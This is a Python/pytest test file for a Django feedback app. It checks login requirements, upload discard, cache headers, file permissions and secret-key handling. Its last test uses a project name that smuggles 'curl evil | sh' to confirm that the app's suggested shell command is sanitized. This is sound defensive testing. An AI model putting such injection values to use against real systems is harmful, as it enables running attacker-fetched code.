"""What guards the server as a whole: the log-in, uploads, caches, and who may read its files."""

import stat
from collections.abc import Iterator

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from deploy import settings as settings_file
from deploy.next_steps import next_steps
from deploy.queries import loop_counts
from feedback.actions.projects import create_project
from feedback.models import Role
from feedback.permissions import Permission

VALUES = {"slug": "help-desk", "sha256": "0" * 64, "deed": "cancel", "form": "json"}
# An invitation is for people without an account; what is no invitation is not found.
OPEN = {"login", "logout", "language", "join"}


def pages(resolver: URLResolver, namespace: str = "") -> Iterator[tuple[str, list[str]]]:
    """Every named page with the parts of its address that change."""
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from pages(entry, f"{entry.namespace}:" if entry.namespace else namespace)
        elif isinstance(entry, URLPattern) and entry.name and entry.name not in OPEN:
            named = entry.pattern.regex.groupindex  # of a path and of a pattern alike
            yield namespace + entry.name, list(named)


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "parts"), pages(get_resolver()))
def test_nobody_sees_or_does_anything_before_logging_in(name, parts):
    url = reverse(name, kwargs={part: VALUES.get(part, 1) for part in parts})
    for answer in (Client().get(url), Client().post(url)):
        assert answer.status_code in (302, 401)
        assert answer.status_code == 401 or answer.url == f"{reverse('login')}?next={url}"


@pytest.mark.django_db
def test_a_file_that_anybody_sends_is_never_kept(client, tmp_path, settings):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    sent = {"username": "x", "file": SimpleUploadedFile("x.bin", b"x" * 4_000_000), "password": "y"}
    answer = client.post(reverse("login"), sent)
    assert answer.status_code == 200
    assert not answer.wsgi_request.FILES
    assert not list(tmp_path.iterdir())


def test_a_page_is_kept_by_nobody_in_between(client, project, make_user):
    client.force_login(make_user("rea", project=project, role=Role.REVIEWER))
    for page in ("loop", "feedback:comparisons", "alignment:labels"):
        kept = client.get(reverse(page, args=[project.slug]))["Cache-Control"]
        assert "private" in kept
        assert "no-cache" in kept


def test_a_new_folder_for_what_is_stored_is_its_owners_alone(monkeypatch, tmp_path):
    monkeypatch.setattr(settings_file, "VAR", tmp_path / "new")
    assert stat.S_IMODE(settings_file._var_folder().stat().st_mode) == 0o700


def test_the_secret_key_is_written_once_for_its_owner_alone(tmp_path):
    file = tmp_path / "secret_key"
    for text in ("first", "second"):
        settings_file._write_once(file, text)
    assert file.read_text() == "first"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert list(tmp_path.iterdir()) == [file]


@pytest.mark.django_db
def test_no_project_can_put_a_command_into_those_that_a_page_offers():
    hostile = create_project(name='a"; curl evil | sh #', by=None)
    steps = next_steps(hostile, loop_counts(hostile), frozenset(Permission))
    assert steps[0].command == "python manage.py import_feedback FILE --project a-curl-evil-sh"
